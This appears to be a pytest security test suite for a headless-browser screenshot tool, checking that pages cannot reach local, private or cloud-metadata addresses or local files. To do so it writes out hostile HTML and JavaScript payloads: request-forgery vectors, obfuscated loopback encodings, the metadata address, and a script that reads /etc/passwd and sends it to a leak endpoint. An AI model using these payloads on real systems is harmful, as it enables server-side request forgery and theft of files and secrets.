"""Pictures by a real browser, of pages that try everything to reach what they may not."""

from __future__ import annotations

import socket
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

import pytest
from PIL import Image
from tests.conftest import absent

from factdesk.capture import screenshot
from factdesk.capture.client import Way
from factdesk.capture.screenshot import Shot, ShotLimits, find_browser, require_browser, screenshots
from factdesk.errors import NetworkError, RefusedAddressError, ResourceError

from .servers import Internet, Respond, Server, answer, serving

OUTSIDE = "1.1.1.1"
QUICK = ShotLimits(seconds=40)


@pytest.fixture(scope="module", autouse=True)
def browser() -> Path:
    try:
        return require_browser()
    except ResourceError as error:
        absent(str(error))
        raise


# One vector each: what stands in the page, with HOST for a host of its own that leads to this machine.
VECTORS: dict[str, str] = {
    "picture": '<img src="http://HOST/">',
    "script": '<script src="http://HOST/"></script>',
    "style": '<link rel="stylesheet" href="http://HOST/">',
    "font": "<style>@font-face{font-family:x;src:url(http://HOST/)}p{font-family:x}</style><p>x</p>",
    "frame": '<iframe src="http://HOST/"></iframe>',
    "object": '<object data="http://HOST/" type="text/html"></object>',
    "video": '<video src="http://HOST/" autoplay muted></video>',
    "fetch": '<script>fetch("http://HOST/", {mode: "no-cors"})</script>',
    "post": '<script>fetch("http://HOST/", {mode: "no-cors", method: "POST", body: "x"})</script>',
    "beacon": '<script>navigator.sendBeacon("http://HOST/", "x")</script>',
    "event source": '<script>new EventSource("http://HOST/")</script>',
    "websocket": '<script>new WebSocket("ws://HOST/")</script>',
    "websocket with TLS": '<script>new WebSocket("wss://HOST/")</script>',
    "form in a frame": (
        '<iframe name="f"></iframe><form id="g" target="f" method="post" action="http://HOST/"></form>'
        '<script>document.getElementById("g").submit()</script>'
    ),
    "refresh in a frame": "<iframe srcdoc=\"<meta http-equiv='refresh' content='0;url=http://HOST/'>\"></iframe>",
    "redirect": '<img src="/to?http://HOST/">',
    "redirect of a frame": '<iframe src="/to?http://HOST/"></iframe>',
    "worker": (
        '<script>new Worker(URL.createObjectURL(new Blob([\'fetch("http://HOST/", {mode: "no-cors"})\'])))</script>'
    ),
    "TLS": '<img src="https://HOST/">',
}
# The same by addresses as they can be written, none of which has a name of its own to be seen by.
WRITTEN = {
    "127.0.0.1": "127.0.0.1",
    "localhost": "localhost",
    "short": "127.1",
    "decimal": "2130706433",
    "hexadecimal": "0x7f000001",
    "octal": "0177.0.0.1",
    "mapped": "[::ffff:7f00:1]",
    "IPv6": "[::1]",
    "metadata": "169.254.169.254",
}
QUIET = """
<link rel="preconnect" href="http://127.0.0.1:PORT"><link rel="dns-prefetch" href="//127.0.0.1:PORT">
<iframe src="file:///etc/passwd"></iframe><iframe src="view-source:http://127.0.0.1:PORT/"></iframe>
<iframe name="h"></iframe><a id="d" target="h" href="http://127.0.0.1:PORT/file">x</a>
<a id="e" download href="/file">y</a>
<script>
document.getElementById("d").click(); document.getElementById("e").click();
window.open("http://127.0.0.1:PORT/popup");
fetch("file:///etc/passwd").then(r => r.text()).then(t => fetch("/leak?" + t));
const peer = new RTCPeerConnection({iceServers: [
  {urls: "turn:127.0.0.1:PORT?transport=tcp", username: "u", credential: "p"}, {urls: "stun:127.0.0.1:PORT"}]});
peer.createDataChannel("x"); peer.createOffer().then(o => peer.setLocalDescription(o));
try { new WebTransport("https://127.0.0.1:PORT/"); } catch (error) {}
navigator.geolocation.getCurrentPosition(() => fetch("/leak?place"));
document.cookie = "seen=1";
fetch("/cookie");
</script>
"""


def host_of(vector: str) -> str:
    return f"v-{vector.lower().replace(' ', '-')}.example"


def attacking(port: int) -> bytes:
    """The page that tries all of it."""
    named = [html.replace("HOST", f"{host_of(name)}:{port}") for name, html in VECTORS.items()]
    written = [f'<img src="http://{host}:{port}/w">' for host in WRITTEN.values()]
    return ("<!doctype html>" + "\n".join((*named, *written, QUIET.replace("PORT", str(port))))).encode()


def page_server(page: bytes) -> Respond:
    def respond(client: socket.socket, head: bytes) -> None:
        path = head.split(b" ")[1].decode()
        if path.startswith("/to?"):
            answer(b"", "302 Found", Location=path.removeprefix("/to?"))(client, head)
        else:
            answer(page if path == "/" else b"", Content_Type="text/html")(client, head)

    return respond


@dataclass(frozen=True)
class Attack:
    """What came of the page that tries all of it."""

    shots: tuple[Shot, ...]
    page: Server
    secret: Server


@pytest.fixture(scope="module")
def attack() -> Iterator[Attack]:
    with serving(answer(b"secret")) as secret, serving(page_server(attacking(secret.port))) as page:
        way = Way(
            resolver=lambda host, port: [OUTSIDE] if host == "page.example" else ["127.0.0.1" if "-" in host else host],
            network=Internet({OUTSIDE: page.port}),
        )
        # The port of what is secret is the page's own, so that nothing is refused for its port alone.
        shots = screenshots(f"http://page.example:{secret.port}/", limits=QUICK, way=way)
        yield Attack(shots, page, secret)


@pytest.mark.attack
@pytest.mark.parametrize("vector", VECTORS)
def test_a_page_cannot_reach_this_machine_by_a_name(vector: str, attack: Attack) -> None:
    assert host_of(vector) in attack.shots[0].refused
    assert not any(host_of(vector).encode() in head for head in attack.secret.requests)


@pytest.mark.attack
@pytest.mark.parametrize("written", ["127.0.0.1", "IPv6", "mapped", "metadata"])
def test_a_page_cannot_reach_this_machine_by_a_number(written: str, attack: Attack) -> None:
    assert WRITTEN[written].strip("[]") in attack.shots[0].refused


@pytest.mark.attack
def test_nothing_at_all_reached_this_machine(attack: Attack) -> None:
    assert attack.secret.connections == 0
    # Nor does the browser ask for anything of its own.
    asked = {host_of(name) for name in VECTORS} | {host.strip("[]") for host in WRITTEN.values()}
    assert set(attack.shots[0].refused) <= asked
    assert not attack.shots[0].private
    assert any("addresses that are not fetched" in str(remark) for remark in attack.shots[0].remarks)


@pytest.mark.attack
def test_files_and_places_are_kept_from_a_page_and_each_picture_has_a_fresh_profile(attack: Attack) -> None:
    heads = b"".join(attack.page.requests)
    assert heads.count(b"GET /cookie ") == 2
    assert b"/leak" not in heads
    pages = [head for head in attack.page.requests if head.startswith(b"GET / ")]
    assert len(pages) == 2
    assert not any(b"\r\nCookie:" in head for head in pages)


TALL = """<!doctype html><meta charset="utf-8"><meta name="viewport" content="width=device-width">
<style>body{margin:0;background:#fff}div{height:20000px}@media(max-width:500px){body{background:#00f}}</style><div></div>
<script>document.body.style.borderTop = "100px solid #f00"</script>"""


@pytest.fixture(scope="module")
def tall() -> Iterator[tuple[Shot, ...]]:
    with serving(answer(TALL.encode(), Content_Type="text/html")) as server:
        yield screenshots(server.url("/a"), allow_private=True, limits=ShotLimits(seconds=40, height=3000))


def test_pictures_at_the_width_of_a_desk_and_of_a_phone(tall: tuple[Shot, ...]) -> None:
    assert [(shot.kind, shot.width, shot.height) for shot in tall] == [("desk", 1366, 3000), ("phone", 780, 6000)]
    for shot, ground in zip(tall, [(255, 255, 255), (0, 0, 255)], strict=True):
        with Image.open(BytesIO(shot.data)) as picture:
            assert picture.size == (shot.width, shot.height)
            seen = picture.convert("RGB")
            # What a script painted, and what the style says for that width.
            assert seen.getpixel((5, 5)) == (255, 0, 0)
            assert seen.getpixel((5, shot.height - 5)) == ground
        assert shot.private


def test_a_page_that_was_not_made_for_phones_is_seen_whole() -> None:
    page = b"<!doctype html><title>wide</title><div style='width:1200px;height:50px;background:#f00'></div>"
    with serving(answer(page, Content_Type="text/html")) as server:
        shots = screenshots(server.url(), allow_private=True, limits=QUICK)
    (phone,) = [shot.data for shot in shots if shot.kind == "phone"]
    with Image.open(BytesIO(phone)) as picture:
        assert picture.convert("RGB").getpixel((2 * 1190, 2 * 20)) == (255, 0, 0)


@pytest.mark.attack
def test_a_page_that_keeps_the_browser_busy_is_given_up(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    busy = answer(b"<p>x<script>onload = () => { while (true) {} }</script>", Content_Type="text/html")
    with serving(busy) as server, pytest.raises(NetworkError):
        screenshots(server.url(), allow_private=True, limits=ShotLimits(seconds=3))
    assert not [path for path in Path("/proc").glob("[0-9]*/cmdline") if str(tmp_path).encode() in _read(path)]
    assert list(tmp_path.iterdir()) == []


def _read(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""


@pytest.mark.attack
@pytest.mark.parametrize(
    "respond",
    [
        answer(b"gone", "404 Not Found"),
        answer(b"", "302 Found", Location="file:///etc/passwd"),
        answer(b"", "302 Found", Location="http://169.254.169.254/"),
    ],
    ids=["error", "redirect to a file", "redirect to a private address"],
)
def test_a_page_that_does_not_come_is_no_picture(respond: Respond) -> None:
    with serving(respond) as server:
        way = Way(
            resolver=lambda host, port: [OUTSIDE] if "page" in host else [host],
            network=Internet({OUTSIDE: server.port}),
        )
        with pytest.raises(NetworkError) as caught:
            screenshots("http://page.example/", limits=QUICK, way=way)
    assert "shows nothing of" in str(caught.value)


@pytest.mark.attack
@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "data:text/html,x", "chrome://version", "javascript:1", "about:blank"]
)
def test_other_schemes_are_refused(url: str) -> None:
    with pytest.raises(RefusedAddressError):
        screenshots(url)


def test_without_a_browser_it_says_what_to_install(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setattr(screenshot, "_PLACES", ())
    assert find_browser() is None
    with pytest.raises(ResourceError, match="Install Chromium"):
        screenshots("http://page.example/")
    own = tmp_path / ".cache/ms-playwright/chromium-1/chrome-linux/chrome"
    own.parent.mkdir(parents=True)
    own.touch()
    assert find_browser() == own
